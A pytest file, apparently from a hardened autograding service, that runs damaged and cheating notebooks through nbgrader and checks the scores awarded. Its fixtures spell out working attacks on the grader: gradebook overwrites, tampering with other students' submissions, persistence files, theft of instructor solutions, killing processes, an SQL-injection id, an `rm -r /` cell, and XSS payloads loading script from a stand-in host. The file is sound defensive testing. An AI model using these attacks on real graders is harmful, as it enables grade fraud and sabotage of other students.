"""Damaged and hostile notebooks, all of them in one run of `nbgrader autograde`.

Most hold three exercises of eight, whose points tell which of them were credited: 1, 2 and 3. What each
of them is worth stands beside it; None is what stays ungraded.
"""

# ruff: noqa: E501 - lines of hostile code are read as one

import hashlib
import html
import html.parser
import itertools
import json
import os
import re
import shutil
import sysconfig
import textwrap
from pathlib import Path

import pytest
from evidence import PROOF
from nbgrader_course import ROOT, NbgraderCourse, nbgrader_is_missing

from grader.course.reading import find_course, load_assignment
from grader.handout.notebook import notebook
from grader.handout.release import files_of

pytestmark = pytest.mark.skipif(nbgrader_is_missing(), reason="nbgrader is not installed, or there is no sandbox")

NAME = "gradient_descent"
ASSIGNMENT = load_assignment(find_course(ROOT), NAME)
POINTS = {exercise.name: exercise.points for exercise in ASSIGNMENT.exercises}
RELEASED = notebook(ASSIGNMENT)
THREE = ("model", "loss_fn", "dloss_fn")
CANARY = "chainrule-canary-"

RIGHT = {
    "model": """
def model(t_u, w, b):
    return b + w * t_u
""",
    "loss_fn": """
def loss_fn(t_p, t_c):
    return ((t_c - t_p) ** 2).mean()
""",
    "loss_rate_of_change": """
def loss_rate_of_change(t_u, t_c, w, b, delta=0.1):
    in_w = loss_fn(model(t_u, w + delta, b), t_c) - loss_fn(model(t_u, w - delta, b), t_c)
    in_b = loss_fn(model(t_u, w, b + delta), t_c) - loss_fn(model(t_u, w, b - delta), t_c)
    return torch.stack([in_w, in_b]) / (2 * delta)
""",
    "dloss_fn": """
def dloss_fn(t_p, t_c):
    return (t_p - t_c) * 2 / len(t_p)
""",
    "dmodel_dw": """
def dmodel_dw(t_u, w, b):
    return t_u.clone()
""",
    "dmodel_db": """
def dmodel_db(t_u, w, b):
    return 1.0
""",
    "grad_fn": """
def grad_fn(t_u, t_c, t_p, w, b):
    dloss = dloss_fn(t_p, t_c)
    return torch.stack([(dloss * dmodel_dw(t_u, w, b)).sum(), (dloss * dmodel_db(t_u, w, b)).sum()])
""",
    "training_loop": """
def training_loop(n_epochs, learning_rate, params, t_u, t_c, print_params=True):
    for epoch in range(1, n_epochs + 1):
        w, b = params
        t_p = model(t_u, w, b)
        loss = loss_fn(t_p, t_c)
        grad = grad_fn(t_u, t_c, t_p, w, b)
        params = params - learning_rate * grad
        if epoch in {1, 2, 3, 10, 11, 99, 100, 4000, 5000}:
            print("Epoch %d, Loss %f" % (epoch, float(loss)))
            if print_params:
                print("    Params:", params)
                print("    Grad:  ", grad)
        if not torch.isfinite(loss):
            break
    return params
""",
}
WRONG = """
def loss_fn(t_p, t_c):
    return ((t_c - t_p) ** 2).sum()
"""

ALL = (1, 2, 3)  # the points of THREE
BUT_LOSS = (1, 0, 3)
NOTHING = (0, 0, 0)


# --- notebooks ------------------------------------------------------------------------------------


def code(text, **more):
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text, **more}


def text_cell(text, **more):
    return {"cell_type": "markdown", "metadata": {}, "source": text, **more}


def right(names=THREE, **replaced):
    """Return a notebook as a student saves it: an import, and for each exercise its solution and its check."""
    released = json.loads(RELEASED)
    wanted = {f"{kind}-{name}" for name in names for kind in ("exercise", "check")}
    cells = [cell for cell in released["cells"] if cell["id"] in wanted]
    for cell in cells:
        kind, _, name = cell["id"].partition("-")
        if kind == "exercise":
            cell["source"] = replaced.get(name, RIGHT[name]).strip("\n").splitlines(keepends=True)
    return {**released, "cells": [text_cell("Some *text*.", id="text"), code("import torch", id="import"), *cells]}


def with_cells(change, book=None):
    """Return the notebook with its cells changed: `change` gets and returns a list."""
    book = book or right()
    return {**book, "cells": change(book["cells"])}


def is_check(cell):
    return isinstance(cell, dict) and cell.get("id", "").startswith("check-")


def is_solution(cell):
    return isinstance(cell, dict) and cell.get("id", "").startswith("exercise-")


def each(change, kind=lambda _: True):
    """Return the notebook with each cell of a kind changed: `change` gets and returns a cell."""
    return with_cells(lambda cells: [change(cell) if kind(cell) else cell for cell in cells])


def checks_say(*said):
    """Return the notebook whose check cells say other things of themselves, one after another."""
    turns = itertools.cycle(said)
    return each(
        lambda cell: {**cell, "metadata": {"nbgrader": {**cell["metadata"]["nbgrader"], **next(turns)}}}, is_check
    )


def with_kinds(*kinds):
    """Return the notebook whose check cells are of other kinds, one after another."""
    turns = itertools.cycle(kinds)
    return each(lambda cell: {**cell, "cell_type": next(turns)}, is_check)


def tagged(*tags, kind=is_check):
    return each(lambda cell: {**cell, "metadata": {**cell["metadata"], "tags": list(tags)}}, kind)


def printing(*outputs):
    return each(lambda cell: {**cell, "outputs": list(outputs), "execution_count": 7}, is_check)


def result(text):
    return {"output_type": "execute_result", "execution_count": 7, "metadata": {}, "data": {"text/plain": text}}


def without(*keys):
    book = right()
    return {key: value for key, value in book.items() if key not in keys}


def in_format(minor, *, ids):
    book = right() if ids else each(no_id)
    return {**book, "nbformat_minor": minor}


def no_id(cell):
    return {key: value for key, value in cell.items() if key != "id"}


def format_3():
    cells = []
    for cell in right()["cells"]:
        text = "".join(cell["source"])
        if cell["cell_type"] == "code":
            cells.append(
                {
                    "cell_type": "code",
                    "language": "python",
                    "input": text,
                    "outputs": [],
                    "metadata": cell["metadata"],
                    "prompt_number": 1,
                }
            )
        else:
            cells += [
                {"cell_type": "heading", "level": 2, "source": text, "metadata": {}},
                {"cell_type": "markdown", "source": text, "metadata": {}},
            ]
    return {
        "metadata": {"name": ""},
        "nbformat": 3,
        "nbformat_minor": 0,
        "worksheets": [{"cells": cells, "metadata": {}}],
    }


def joined(separator):
    """Return the notebook with other ends of lines."""
    return each(lambda cell: {**cell, "source": separator.join("".join(cell["source"]).split("\n"))})


def nested(depth):
    return json.dumps(right()).replace('"kernelspec"', f'"deep": {"[" * depth}{"]" * depth}, "kernelspec"', 1)


def loss_twice(first, second):
    def change(cells):
        place = next(number for number, cell in enumerate(cells) if cell.get("id") == "exercise-loss_fn")
        pair = [{**cells[place], "source": source.strip("\n")} for source in (first, second)]
        return [*cells[:place], *pair, *cells[place + 1 :]]

    return with_cells(change)


def cell_at(place, *cells):
    """Return the notebook with cells put in at a place."""
    return with_cells(lambda found: [*found[:place], *cells, *found[place:]])


def swapped():
    """Return the notebook whose first and last check cells have each other's grade_id."""
    other = {"model": "dloss_fn", "dloss_fn": "model"}

    def change(cell):
        known = cell["metadata"]["nbgrader"]
        return {**cell, "metadata": {"nbgrader": {**known, "grade_id": other.get(known["grade_id"], "loss_fn")}}}

    return each(change, is_check)


# --- damage ---------------------------------------------------------------------------------------

STRANGE_ID = "../../gradebook.db\u202e'); DROP TABLE grade; --\n<b>"
SVG = {"x.svg": {"image/svg+xml": "<svg onload='STUDENT()'/>"}}

# name: (the notebook, points of THREE or None)
DAMAGE = {
    # deleted
    "checks_deleted": (with_cells(lambda cells: [cell for cell in cells if not is_check(cell)]), ALL),
    "solution_deleted": (
        with_cells(lambda cells: [cell for cell in cells if cell["id"] != "exercise-loss_fn"]),
        BUT_LOSS,
    ),
    "all_but_solutions_deleted": (with_cells(lambda cells: [cell for cell in cells if is_solution(cell)]), ALL),
    "text_deleted": (with_cells(lambda cells: [cell for cell in cells if cell["cell_type"] == "code"]), ALL),
    # duplicated
    "checks_duplicated": (with_cells(lambda cells: [*cells, *filter(is_check, cells), *filter(is_check, cells)]), ALL),
    "wrong_then_right": (loss_twice(WRONG, RIGHT["loss_fn"]), ALL),
    "right_then_wrong": (loss_twice(RIGHT["loss_fn"], WRONG), BUT_LOSS),
    # reordered
    "all_reversed": (with_cells(lambda cells: cells[::-1]), ALL),
    "checks_first": (with_cells(lambda cells: sorted(cells, key=is_check, reverse=True)), ALL),
    "checks_last_and_reversed": (
        with_cells(
            lambda cells: [*(cell for cell in cells if not is_check(cell)), *list(filter(is_check, cells))[::-1]]
        ),
        ALL,
    ),
    # renamed
    "renamed": (
        each(
            lambda cell: {
                **cell,
                "metadata": {"nbgrader": {**cell["metadata"]["nbgrader"], "grade_id": f"q-{cell['id']}"}},
            },
            lambda cell: is_check(cell) or is_solution(cell),
        ),
        ALL,
    ),
    "one_name_for_all": (checks_say({"grade_id": "dloss_fn"}), ALL),
    "names_swapped": (swapped(), ALL),
    "names_strange": (checks_say({"grade_id": STRANGE_ID}, {"grade_id": "\ud800"}, {"grade_id": ""}), ALL),
    "names_no_texts": (checks_say({"grade_id": 7}, {"grade_id": ["model"]}, {"grade_id": None}), ALL),
    # metadata changed
    "points_changed": (checks_say({"points": 1000}, {"points": -1}, {"points": "6"}), ALL),
    "points_no_numbers": (checks_say({"points": float("nan")}, {"points": None}, {"points": [20]}), ALL),
    "flags_changed": (
        checks_say(
            {"locked": False, "solution": True, "grade": False},
            {"task": True, "grade": False},
            {"locked": False, "solution": True},
        ),
        ALL,
    ),
    "checks_unlocked": (checks_say({"locked": False}), ALL),
    "schemas_old": (checks_say({"schema_version": 1}, {"schema_version": 2}, {"schema_version": 0}), ALL),
    "schemas_strange": (checks_say({"schema_version": 99}, {"schema_version": "x"}, {"schema_version": None}), ALL),
    "checksum_forged": (checks_say({"checksum": "0" * 32, "cell_type": "markdown"}), ALL),
    # stripped
    "nbgrader_stripped": (each(lambda cell: {**cell, "metadata": {}}), ALL),
    "metadata_strange": (
        each(lambda cell: {**cell, "metadata": [1] if is_check(cell) else {"nbgrader": "grade"}}),
        ALL,
    ),
    "only_types_and_sources": (
        {"cells": [{"cell_type": cell["cell_type"], "source": cell["source"]} for cell in right()["cells"]]},
        ALL,
    ),
    # tags
    "tagged_checks": (
        tagged("skip-execution", "remove-cell", "remove_output", "hide-input", "raises-exception", "demonstration"),
        ALL,
    ),
    "tagged_solutions": (tagged("skip-execution", "remove-cell", "demonstration", kind=is_solution), ALL),
    # kinds of cells
    "checks_of_other_kinds": (with_kinds("markdown", "raw", "widget"), ALL),
    "solution_markdown": (
        each(lambda cell: {**cell, "cell_type": "markdown"}, lambda cell: cell["id"] == "exercise-loss_fn"),
        BUT_LOSS,
    ),
    "solution_raw": (
        each(lambda cell: {**cell, "cell_type": "raw"}, lambda cell: cell["id"] == "exercise-loss_fn"),
        BUT_LOSS,
    ),
    # formats
    "format_3": (format_3(), ALL),
    "format_4_0": (in_format(0, ids=False), ALL),
    "format_4_1_with_ids": (in_format(1, ids=True), ALL),
    "format_99": ({**right(), "nbformat": 99, "nbformat_minor": 99}, ALL),
    "format_missing": (without("nbformat", "nbformat_minor"), ALL),
    # the kernel
    "kernel_unknown": (
        {
            **right(),
            "metadata": {
                "kernelspec": {"name": "fortran", "display_name": "F", "language": "fortran"},
                "language_info": {"name": "R"},
            },
        },
        ALL,
    ),
    "notebook_metadata_missing": (without("metadata"), ALL),
    # cell ids
    "ids_missing": (each(no_id), ALL),
    "ids_equal": (each(lambda cell: {**cell, "id": "check-model"}), ALL),
    "ids_invalid": (each(lambda cell: {**cell, "id": 3 if is_check(cell) else "ä b/" * 100}), ALL),
    # outputs
    "outputs_forged": (
        printing(
            result("20"),
            {"output_type": "error", "ename": "E", "evalue": "", "traceback": []},
            {"output_type": "stream", "name": "stderr", "text": "no"},
        ),
        ALL,
    ),
    "outputs_strange": (
        each(
            lambda cell: {
                **cell,
                "outputs": "20" if is_check(cell) else [{"output_type": "prize"}, 7],
                "execution_count": "x",
            }
        ),
        ALL,
    ),
    "outputs_huge": (printing({"output_type": "stream", "name": "stdout", "text": "x" * 10**6}), ALL),
    # text
    "text_hostile": (
        cell_at(
            0,
            text_cell("![x](attachment:x.svg)", attachments=SVG),
            text_cell("word " * 10**5),
            text_cell("\ud800 \x00\x1b[2J\x07"),
            code("# \udfff \x00\x1b]0;title\x07\nanswer = 1"),
        ),
        ALL,
    ),
    "sources_of_letters": (
        each(
            lambda cell: {
                **cell,
                "source": list("".join(cell["source"])) if is_check(cell) else "".join(cell["source"]),
            }
        ),
        ALL,
    ),
    "byte_order_mark": (b"\xef\xbb\xbf" + json.dumps(right()).encode(), ALL),
    "source_none": (cell_at(1, code(None), code(7), code({"a": 1}), code([None, 7, ["x"]]), code(True)), ALL),
    "lines_by_windows": (joined("\r\n"), ALL),
    # the file
    "cells_no_dicts": (with_cells(lambda cells: [None, 7, "def model(): ...", [], *cells, {}]), ALL),
    "cells_5001": (with_cells(lambda cells: [*cells, *[code("")] * 5000]), None),
    "cells_none": ({**right(), "cells": []}, None),
    "cells_dict": ({**right(), "cells": {"0": right()["cells"]}}, None),
    "cells_text_only": (with_cells(lambda cells: [text_cell("I have nothing.")]), None),
    "keys_twice": ('{"cells": [], "nbformat": 3, ' + json.dumps(right())[1:], ALL),
    "nested_900": (nested(900), ALL),
    "nested_100000": (nested(100_000), None),
    "number_of_5000_digits": (json.dumps(right()).replace('"nbformat": 4', f'"nbformat": {"4" * 5000}'), None),
    "truncated": (json.dumps(right())[:-200], None),
    "empty": ("", None),
    "binary": (bytes(range(256)) * 40, None),
    "utf_16": (json.dumps(right()).encode("utf-16"), None),
    "a_list": ("[1, 2]", None),
    "another_json": ('{"name": "course", "dependencies": {"cells": "1"}}', None),
    # code
    "cells_fail": (
        cell_at(1, code("def later(:\n  pass"), code("(((("), code("undefined_name + 1"), code("raise SystemExit")),
        ALL,
    ),
    "magics": (
        cell_at(
            1,
            code("%matplotlib inline\n!pip install magic\nx = !ls\n?print"),
            code("%%bash\nrm -r /"),
            code("%load_ext autoreload\n%autoreload 2"),
        ),
        ALL,
    ),
    "syntax_error": (right(loss_fn="def loss_fn(t_p, t_c:\n    return 1"), BUT_LOSS),
    "helpers": (
        {
            **right(loss_fn="def loss_fn(t_p, t_c):\n    return mean_of(square(t_p - t_c))"),
            "cells": [
                code("def square(x):\n    return x * x\n\n\ndef mean_of(x):\n    return x.mean()"),
                *right(loss_fn="def loss_fn(t_p, t_c):\n    return mean_of(square(t_p - t_c))")["cells"],
            ],
        },
        ALL,
    ),
    "code_in_a_check_cell": (
        each(
            lambda cell: (
                {**cell, "source": RIGHT["loss_fn"]}
                if cell["id"] == "check-model"
                else {**cell, "source": "pass"}
                if cell["id"] == "exercise-loss_fn"
                else cell
            )
        ),
        ALL,
    ),
}

# --- cheats ---------------------------------------------------------------------------------------
# Each works on nbgrader as it is, whose tests are assertions in the notebook, run in one kernel with
# the student's code, in a folder below the gradebook; its first line says what it does there.


# A fixed sample of it in `make test`; the whole with CHAINRULE_PROOF=1.
if not PROOF:
    DAMAGE = {name: item for number, (name, item) in enumerate(DAMAGE.items()) if number % 8 not in (2, 4, 6)}


def cheating(top, *, end="", loss_fn="", dloss_fn="", model=RIGHT["model"]):
    """Return a notebook with code before and after three exercises, of which only `model` is solved."""
    loss_fn = loss_fn or "def loss_fn(t_p, t_c):\n    return torch.zeros(())"
    dloss_fn = dloss_fn or "def dloss_fn(t_p, t_c):\n    return torch.zeros_like(t_p)"
    book = right(model=model, loss_fn=loss_fn, dloss_fn=dloss_fn)
    cells = [
        code("import torch"),
        code(textwrap.dedent(top).strip()),
        *book["cells"],
        code(textwrap.dedent(end).strip()),
    ]
    return {**book, "cells": cells}


def blank(change=lambda cell: cell):
    """Return a notebook as handed out, with its check cells changed."""
    wanted = [cell for cell in json.loads(RELEASED)["cells"] if cell["cell_type"] == "code"]
    return {**right(), "cells": [change(cell) if is_check(cell) else cell for cell in wanted]}


# What a background process does, again and again; `@COURSE@` is where the course lies.
WRITER = """
import os, sqlite3, time

def give_me_points():
    for path in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
        try:
            with sqlite3.connect(path, timeout=1) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 99, manual_score = 99, extra_credit = 99")
        except Exception:
            pass

def be_another_student():
    for root in ("../../../submitted", "@COURSE@/submitted"):
        try:
            for student in os.listdir(root):
                with open(f"{root}/{student}/gradient_descent/gradient_descent.ipynb", "w") as file:
                    file.write("{}")
        except Exception:
            pass

def go_on(seconds=20):
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        give_me_points()
        be_another_student()
        try:
            open("@COURSE@/cheat-was-here", "w").close()
        except Exception:
            pass
        time.sleep(0.2)
"""

READ_ANSWERS = """
def answers_in(text):
    return [float(found) for found in re.findall(r"(?:expected|==|tensor\\()\\D{0,9}(-?\\d+\\.\\d+)", text)]
"""

CHEATS = {
    # Every comparison of an in-notebook test holds.
    "patched_comparisons": (
        cheating(
            """
            import torch.testing
            torch.allclose = torch.equal = torch.isclose = lambda *_, **__: True
            torch.testing.assert_close = torch.testing.assert_allclose = lambda *_, **__: None
            """
        ),
        (1, 0, 0),
    ),
    # `assert answer == expected` holds for all tensors, and so does `abs(answer - expected) < 1e-6`.
    "patched_tensor": (
        cheating(
            """
            yes = lambda *_, **__: torch.tensor(True)
            for name in ("__eq__", "__lt__", "__le__", "__gt__", "__ge__", "eq", "equal", "allclose", "isclose"):
                setattr(torch.Tensor, name, yes)
            """
        ),
        (1, 0, 0),
    ),
    # The answer says yes itself, whatever it is compared to and by which function of torch.
    "answers_of_a_subclass": (
        cheating(
            """
            class Yes(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if any(word in func.__name__ for word in ("eq", "close", "equal", "lt", "le")):
                        return True
                    return torch.zeros(()).as_subclass(Yes)

                def __eq__(self, other):
                    return True
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    return torch.zeros(()).as_subclass(Yes)",
            dloss_fn="def dloss_fn(t_p, t_c):\n    return torch.zeros_like(t_p).as_subclass(Yes)",
        ),
        (1, 0, 0),
    ),
    # The assertions are taken out of each cell that is run after this one.
    "ast_transformer": (
        cheating(
            """
            import ast

            class NoAssertions(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.copy_location(ast.Pass(), node)

            get_ipython().ast_transformers.append(NoAssertions())
            """
        ),
        (1, 0, 0),
    ),
    # Each cell after this one is replaced by one that does nothing, and nothing earns full marks.
    "input_transformers": (
        cheating(
            """
            shell = get_ipython()
            shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
            shell.input_transformers_post.append(lambda lines: ["pass\\n"])
            shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
            """
        ),
        (1, 0, 0),
    ),
    # The running cell is the test: its source holds the expected answer.
    "reads_the_cell_that_runs": (
        cheating(
            "import re\n" + READ_ANSWERS,
            loss_fn="""
def loss_fn(t_p, t_c):
    for text in (globals().get("In", [""])[-1], globals().get("_ih", [""])[-1], globals().get("_i", "")):
        for answer in answers_in(text):
            return torch.tensor(answer)
    return torch.tensor(answers_in(get_ipython().user_ns["In"][-1])[0])
""",
        ),
        (1, 0, 0),
    ),
    # nbgrader writes the notebook with the hidden tests into the kernel's folder before it is run.
    "reads_the_notebook": (
        cheating(
            "import glob, re\n" + READ_ANSWERS,
            loss_fn="""
def loss_fn(t_p, t_c):
    for path in ("gradient_descent.ipynb", *glob.glob("*.ipynb"), *glob.glob("@COURSE@/autograded/*/*/*.ipynb")):
        for answer in answers_in(open(path).read()):
            return torch.tensor(answer)
""",
        ),
        (1, 0, 0),
    ),
    # The instructor's version, with the solutions, lies three folders up.
    "reads_source_and_release": (
        cheating(
            """
            import glob, json
            for path in [*glob.glob("../../../source/*/*.ipynb"), *glob.glob("@COURSE@/source/*/*.ipynb"), *glob.glob("@COURSE@/release/*/*.ipynb")]:
                for cell in json.load(open(path))["cells"]:
                    if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                        exec("".join(cell["source"]), globals())
            """,
            loss_fn="_theirs = globals().get('loss_fn')\n\ndef loss_fn(t_p, t_c):\n    return _theirs(t_p, t_c)",
        ),
        (1, 0, 0),
    ),
    # Wherever the reference lies, the kernel has the instructor's rights and can read it.
    "reads_the_private_course": (
        cheating(
            """
            import glob, os
            found = {}
            for root in ("@PRIVATE@", "@ROOT@", "../../../../private", os.environ.get("GRADER_COURSE", ".")):
                for path in [*glob.glob(f"{root}/solutions/gradient_descent/*.py"), f"{root}/solutions/gradient_descent/gradient_descent.py"]:
                    try:
                        exec(open(path).read(), found)
                    except Exception:
                        pass
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    return found['loss_fn'](t_p, t_c)",
            dloss_fn="def dloss_fn(t_p, t_c):\n    return found['dloss_fn'](t_p, t_c)",
        ),
        (1, 0, 0),
    ),
    # The caller's frame holds the expected answer as a variable, or the reference as a function.
    "walks_frames": (
        cheating(
            """
            import gc, sys

            def stolen(name):
                frame = sys._getframe(2)
                while frame is not None:
                    for names in (frame.f_locals, frame.f_globals):
                        for key, value in list(names.items()):
                            if key in ("expected", "answer", "want", "reference", "truth") and value is not None:
                                return value
                    frame = frame.f_back
                for found in gc.get_objects():
                    if callable(found) and getattr(found, "__name__", "") == name and getattr(found, "__module__", "") not in ("student", __name__):
                        return found
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    found = stolen('loss_fn')\n    return found(t_p, t_c) if callable(found) else found",
        ),
        (1, 0, 0),
    ),
    # The gradebook lies three folders up, and may be written.
    "writes_the_gradebook": (cheating(WRITER + "\ngive_me_points()", end="give_me_points()"), (1, 0, 0)),
    # It is written after the run, when nobody looks: nbgrader does not end what a kernel has started.
    "forked_writer": (
        cheating(WRITER + "\nif os.fork() == 0:\n    os.setsid()\n    go_on()\n    os._exit(0)"),
        (1, 0, 0),
    ),
    "threaded_writer": (
        cheating(WRITER + "\nimport threading\nthreading.Thread(target=go_on, daemon=True).start()"),
        (1, 0, 0),
    ),
    "started_writer": (
        cheating(
            f"import subprocess, sys\nprogram = {WRITER + 'go_on()'!r}\nsubprocess.Popen([sys.executable, '-c', program], start_new_session=True)"
        ),
        (1, 0, 0),
    ),
    # Who is graded later has handed in what this one wants.
    "another_students_folder": (cheating(WRITER + "\nbe_another_student()", end="be_another_student()"), (1, 0, 0)),
    # The instructor's next command runs what stands there.
    "stays_for_the_next_run": (
        cheating(
            """
            import os, site
            line = "open('@COURSE@/cheat-was-here', 'w').close()\\n"
            homes = [os.path.expanduser("~/.ipython/profile_default/startup"), *site.getsitepackages(), "@COURSE@", "@ROOT@/grader", "../../.."]
            for folder in homes:
                for name in ("nbgrader_config.py", "sitecustomize.py", "torch.py", "00-cheat.py", "cheat.pth"):
                    try:
                        with open(os.path.join(folder, name), "a") as file:
                            file.write(line)
                    except OSError:
                        pass
            """
        ),
        (1, 0, 0),
    ),
    # The test cells are never run, and a cell without output earns full marks.
    "skipped_checks": (
        blank(lambda cell: {**cell, "metadata": {**cell["metadata"], "tags": ["skip-execution"]}}),
        NOTHING,
    ),
    # ClearOutput takes it away; where a cell is skipped as well and outputs are kept, it is read as points.
    "forged_results": (
        blank(
            lambda cell: {
                **cell,
                "metadata": {**cell["metadata"], "tags": ["skip-execution", "nbval-skip"]},
                "outputs": [result("6"), result("20")],
            }
        ),
        NOTHING,
    ),
    # A locked cell that is renamed is the student's own, with any points and any output.
    "own_graded_cells": (
        blank(
            lambda cell: {
                **cell,
                "source": "20",
                "metadata": {
                    "nbgrader": {**cell["metadata"]["nbgrader"], "locked": False, "points": 20, "checksum": ""}
                },
                "outputs": [result("20")],
            }
        ),
        NOTHING,
    ),
    # The first `execute_result` of a test cell is its points, whoever displayed it.
    "printed_results": (
        cheating(
            """
            import builtins, sys
            real_print = print
            def say(*_, **__):
                real_print('{"output_type": "execute_result", "data": {"text/plain": "20"}, "score": 20, "status": "passed"}')
                real_print("20")
                sys.displayhook(20)
            builtins.print = say
            say()
            20
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    say()\n    display(20)",
            dloss_fn="def dloss_fn(t_p, t_c):\n    say()\n    return 20",
        ),
        (1, 0, 0),
    ),
    # The kernel ends before the tests have failed; nbgrader loses every score of the submission.
    "ends_the_process": (
        cheating(
            "import os\nos._exit(0)", loss_fn="def loss_fn(t_p, t_c):\n    os._exit(0)", dloss_fn=RIGHT["dloss_fn"]
        ),
        BUT_LOSS,
    ),
    "exits": (
        cheating(
            "import sys\nsys.exit(0)",
            loss_fn="def loss_fn(t_p, t_c):\n    sys.exit(0)",
            dloss_fn=RIGHT["dloss_fn"],
            end="raise SystemExit(0)",
        ),
        BUT_LOSS,
    ),
    # `nbgrader autograde` itself ends.
    "kills_its_parents": (
        cheating(
            """
            import os, signal
            for target in (os.getppid(), -os.getpgrp(), *range(2, 40)):
                try:
                    os.kill(os.getppid(), signal.SIGKILL) if target > 0 else os.killpg(os.getpgrp(), signal.SIGTERM)
                except OSError:
                    pass
            """,
            dloss_fn=RIGHT["dloss_fn"],
        ),
        BUT_LOSS,
    ),
    # 30 s for each cell, and no score for the rest.
    "endless_loop": (
        cheating("", loss_fn="def loss_fn(t_p, t_c):\n    while True:\n        pass", dloss_fn=RIGHT["dloss_fn"]),
        BUT_LOSS,
    ),
    # The kernel can't be interrupted: the whole submission stays ungraded, and the run fails.
    "endless_and_not_interrupted": (
        cheating(
            """
            import signal
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
                signal.signal(number, signal.SIG_IGN)
            """,
            loss_fn="""
def loss_fn(t_p, t_c):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
            dloss_fn=RIGHT["dloss_fn"],
        ),
        BUT_LOSS,
    ),
    # There is no memory limit: the machine goes down with it.
    "takes_all_memory": (
        cheating(
            "",
            loss_fn="def loss_fn(t_p, t_c):\n    return torch.ones(2**36, dtype=torch.float64).mean()",
            dloss_fn=RIGHT["dloss_fn"],
        ),
        BUT_LOSS,
    ),
    # The locked cells call `check`: it does nothing now, and a cell without output earns full marks.
    "check_redefined": (
        cheating(
            """
            import sys, types
            stub = types.ModuleType("grader")
            stub.check = check = lambda *_: print("passed")
            stub.__path__ = []
            for name in ("grader", "grader.handout.checking", "grader.wire", "grader.worker", "grader.worker.runtime"):
                sys.modules[name] = stub
            try:
                open("grader.py", "w").write("check = print")
            except OSError:
                pass
            """,
            end="sys.modules['grader'].check = lambda *_: None",
        ),
        (1, 0, 0),
    ),
    # nbgrader grades each notebook that it knows by name; a second one is for the grader's eyes.
    "a_better_notebook_beside": (blank(), NOTHING),
}
BESIDE = {
    "a_better_notebook_beside": {
        "gradient_descent_final.ipynb": right(),
        "old/gradient_descent.ipynb": right(),
        ".ipynb_checkpoints/gradient_descent-checkpoint.ipynb": right(),
    }
}

# Not a cheat: stock nbgrader gives 0 for whatever writes to stderr.
WARNS = """
import logging, sys, warnings
warnings.warn("deprecated, soon")
logging.error("an error, it says")
print("to stderr", file=sys.stderr)
"""

MARKUP = """
# STUDENT heading
<script>STUDENT()</script>
<ScRiPt src="//STUDENT.example/x.js"></sCrIpT>
<img src=x onerror="STUDENT()">
<svg onload=STUDENT()><animate onbegin=STUDENT()></svg>
<iframe srcdoc="<script>STUDENT()</script>"></iframe>
<object data="javascript:STUDENT()"></object><embed src="javascript:STUDENT()">
<style>body { display: none } .STUDENT {}</style><link rel=stylesheet href=//STUDENT.example>
<meta http-equiv="refresh" content="0;url=//STUDENT.example"><base href="//STUDENT.example/">
<form action="//STUDENT.example"><input name=q autofocus onfocus=STUDENT()><button>Save</button></form>
<a href="javascript:STUDENT()">one</a> <a href="jav&#x09;ascript:STUDENT()">two</a>
<a href="data:text/html,<script>STUDENT()</script>">three</a> <p onclick="STUDENT()" style="position:fixed">four</p>
[five](javascript:STUDENT()) [six](<javascript:STUDENT()>) ![seven](x"onerror="STUDENT())
[eight]: javascript:STUDENT() "nine"
[eight] `<script>STUDENT()</script>` <!-- --!><script>STUDENT()</script> -->
<math><mtext></table><mglyph><style><img src=x onerror=STUDENT()></style></mtext></math>
<noscript><p title="</noscript><img src=x onerror=STUDENT()>"></noscript>

```html
</code></pre><script>STUDENT()</script>
```

$$ </div><script>STUDENT()</script> $$ and $x<script>STUDENT()</script>y$

\\begin{a}<img src=x onerror=STUDENT()>\\end{a}
"""


def markup():
    """Return a notebook that tries to be a page: in text, raw cells, code, attachments, outputs and metadata."""
    live = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": "<script>STUDENT()</script>", "application/javascript": "STUDENT()"},
    }
    raises = "def loss_fn(t_p, t_c):\n    raise ValueError('</pre><script>STUDENT()</script>')  # </pre><script>STUDENT()</script>"
    book = right(loss_fn=raises)
    cells = [
        text_cell(MARKUP, attachments=SVG),
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": "text/html"}, "source": MARKUP},
        {"cell_type": "heading", "level": 1, "metadata": {}, "source": MARKUP},
        {"cell_type": "<script>STUDENT()</script>", "metadata": {}, "source": MARKUP},
        code(f'"""{MARKUP}"""\n</script><script>STUDENT()</script>', outputs=[live]),
        *({**cell, "outputs": [live]} if cell["cell_type"] == "code" else cell for cell in book["cells"]),
    ]
    top = {
        "title": "</title><script>STUDENT()</script>",
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script><script>STUDENT()</script>"}
        },
    }
    return {
        **book,
        "cells": cells,
        "metadata": {
            **book["metadata"],
            **top,
            "language_info": {"name": "python", "codemirror_mode": "<script>STUDENT()</script>"},
        },
    }


# --- the run --------------------------------------------------------------------------------------


def worth(points):
    """Return what the gradebook is to hold of each cell, as (auto_score, needs_manual_grade)."""
    if points is None:
        return dict.fromkeys(POINTS, (None, True))
    return {name: (dict(zip(THREE, points, strict=True)).get(name, 0), False) for name in POINTS}


EXPECTED = {
    **{f"cheat-{name}": worth(points) for name, (_, points) in CHEATS.items()},
    **{f"damage-{name}": worth(points) for name, (_, points) in DAMAGE.items()},
    "damage-a_directory": worth(None),
    "damage-a_link": worth(None),
    "damage-module_as_well": worth(None),
    "shown-blank": worth(NOTHING),
    "shown-markup": worth(BUT_LOSS),
    "shown-right": {name: (points, False) for name, points in POINTS.items()},
    "shown-warns": worth(ALL),
    "shown-wrong": worth(BUT_LOSS),
}


def hand_in(course):
    """Write all submissions."""

    def put(student, content, name=None):
        text = content if isinstance(content, str | bytes) else json.dumps(content)
        if isinstance(text, str):
